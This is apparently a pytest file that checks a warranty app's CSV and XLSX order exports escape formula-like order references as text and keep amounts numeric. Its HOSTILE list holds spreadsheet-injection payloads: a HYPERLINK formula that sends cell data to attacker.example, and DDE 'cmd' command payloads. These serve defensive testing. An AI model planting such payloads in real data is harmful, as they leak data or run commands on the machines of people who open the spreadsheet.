"""Exports never hand a spreadsheet a formula: text that would read as one is written as text
(CSV: a leading apostrophe; XLSX: a string cell), while money and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import sqlalchemy as sa
from openpyxl import load_workbook

from tests.report_history import plan_sale
from warranty.orders.models import Order

URL = "/api/v1/reports/{}?from=2026-01-01&to=2026-03-31&format={}"
# What a shopper can type as an order reference (or older rows may hold: tab, CR).
HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


def _orders(client, db, staff_headers):
    """One imported order per hostile reference; those the intake refuses (tab, CR) or trims
    (leading spaces) are stored as is, as older rows may hold them."""
    single_line = [ref for ref in HOSTILE if ref[:1] not in "\t\r "]
    res = client.post("/api/v1/orders/import", headers=staff_headers, json={"orders": [
        {"order_ref": ref, "email": f"c{n}@example.com", "purchase_date": "2026-01-05",
         "total_amount": 1000 + n} for n, ref in enumerate(single_line)]})
    assert res.status_code == 200, res.json
    for ref in HOSTILE:
        if ref not in single_line:
            db.add(Order(store_order_ref=ref, customer_email="d@example.com", currency="jpy",
                         total_amount=5, channel="external", status="paid",
                         purchase_date=date(2026, 1, 6), booked_on=date(2026, 1, 6)))
    db.commit()
    assert db.execute(sa.select(sa.func.count()).select_from(Order)).scalar() == len(HOSTILE)


def test_csv_cells_that_would_be_formulas_are_text(client, db, staff_headers):
    _orders(client, db, staff_headers)
    text = client.get(URL.format("orders", "csv"), headers=staff_headers).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    refs = sorted(r["order_ref"] for r in rows)
    assert refs == sorted("'" + ref for ref in HOSTILE)
    assert all(r["total_amount"].isdigit() for r in rows)  # amounts are plain numbers


def test_xlsx_cells_that_would_be_formulas_are_strings(client, db, staff_headers):
    _orders(client, db, staff_headers)
    response = client.get(URL.format("orders", "xlsx"), headers=staff_headers)
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(sheet.iter_rows())]
    column = header.index("order_ref")
    refs = sorted(row[column].value for row in sheet.iter_rows(min_row=2))
    # Shown as typed, as text (XML reads a stored CR back as LF).
    assert refs == sorted(ref.replace("\r", "\n") for ref in HOSTILE)
    amounts = [row[header.index("total_amount")] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in amounts} == {"n"}


def test_negative_amounts_stay_numbers(client, db, staff_headers):
    plan_sale(db, price=3650, sold_on=date(2026, 1, 10), payment_intent_id="pi_b",
              cancel=(date(2026, 2, 3), 1000))
    text = client.get(URL.format("movements", "csv"), headers=staff_headers).get_data(
        as_text=True)
    refund = next(r for r in csv.DictReader(io.StringIO(text)) if r["type"] == "refund")
    assert refund["amount"] == "-1000"
    response = client.get(URL.format("movements", "xlsx"), headers=staff_headers)
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    header = [c.value for c in next(sheet.iter_rows())]
    amounts = [row[header.index("amount")] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in amounts] == [(3650, "n"), (-1000, "n")]
